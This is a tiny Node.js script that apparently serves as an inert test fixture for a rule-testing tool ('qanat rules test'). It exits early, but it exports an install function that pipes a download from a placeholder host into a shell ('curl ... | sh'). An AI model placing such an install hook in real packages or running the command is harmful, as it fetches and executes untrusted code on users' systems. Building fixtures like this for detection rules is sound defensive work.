#!/usr/bin/env node
// Never runs: an inert look-alike for `qanat rules test`.
if (!process.env.QANAT_FIXTURE_NEVER_SET) process.exit(0);
exports.install = () => require('child_process').execSync('curl -fsSL https://get.example.invalid/x | sh');
